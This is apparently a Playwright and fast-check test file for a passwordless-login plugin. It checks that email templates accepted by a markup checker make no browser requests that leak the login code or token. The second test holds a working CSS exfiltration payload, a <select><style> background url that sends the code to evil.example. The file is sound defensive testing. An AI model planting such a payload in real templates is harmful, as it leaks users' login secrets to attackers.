/**
 * The template markup rule against a real browser (issue 18): parse5 is the checker's
 * reading of HTML, Chromium is what recipients open. Templates generated from the
 * pieces the outside reviews' bypasses were made of; each one the checker accepts is
 * rendered with real values and opened in Chromium, and no request it makes may carry
 * the code or the link's token. The same oracle sees the review's <select><style> leak
 * when the checker is skipped, so it can fail.
 */
import fc from 'fast-check';
import type { Browser, Page } from 'playwright-core';
import { launchChromium } from './helpers/chromium';
import { findMarkupProblems } from '../../packages/strapi-passwordless-login/src/shared/template-markup';
import { renderTemplate, type TemplateValues } from '../../packages/strapi-passwordless-login/src/shared/template';
import { template } from '../helpers/template-fragments';

const CODE = '482915';
const TOKEN = 'Tk7fQzsecret9';
const VALUES: TemplateValues = {
  CODE,
  URL: `https://shop.example/auth/link?token=${TOKEN}`,
  'USER.username': `o'neil "x" <b>`,
  'USER.email': 'o.neil@shop.example',
  EXPIRES_IN_MINUTES: '10',
  APP_NAME: 'Shop',
};
const SAMPLES = 150;

let browser: Browser;
let page: Page;
let requested: string[] = [];

beforeAll(async () => {
  browser = await launchChromium();
  page = await browser.newPage();
  // Every request is recorded and answered empty: nothing leaves the machine.
  await page.route('**/*', async (route) => {
    requested.push(route.request().url());
    await route.fulfill({ status: 200, body: '' });
  });
});
afterAll(async () => browser?.close());

/** The URLs Chromium requested while opening the email. */
async function open(html: string): Promise<string[]> {
  requested = [];
  await page.setContent(html, { waitUntil: 'load', timeout: 10_000 });
  // Styles and lazy images resolve after load: one more frame.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 20))));
  return requested;
}

const leaked = (urls: string[]) => urls.filter((url) => url.includes(CODE) || url.includes(TOKEN));

describe('emails the checker accepts, opened in Chromium', () => {
  it(`${SAMPLES} generated templates with placeholders: no request carries the code or the link`, async () => {
    const drafts = fc
      .sample(template, { numRuns: 40_000, seed: Number(process.env.FC_SEED ?? 18) })
      .filter((draft) => draft.includes('<%=') && findMarkupProblems(draft).length === 0)
      .slice(0, SAMPLES);
    expect(drafts.length).toBe(SAMPLES);
    for (const draft of drafts) {
      expect({ draft, leaked: leaked(await open(renderTemplate(draft, VALUES, { html: true }))) }).toEqual({ draft, leaked: [] });
    }
  });

  it('the oracle can fail: with the checker skipped, the review’s <select><style> template leaks the code on opening', async () => {
    const draft = '<p><%= CODE %></p><select hidden><style>p{background:url(https://evil.example/s?c=<%= CODE %>)}</style></select>';
    expect(findMarkupProblems(draft)).not.toEqual([]);
    expect(leaked(await open(renderTemplate(draft, VALUES, { html: true })))).toEqual([`https://evil.example/s?c=${CODE}`]);
  });
});
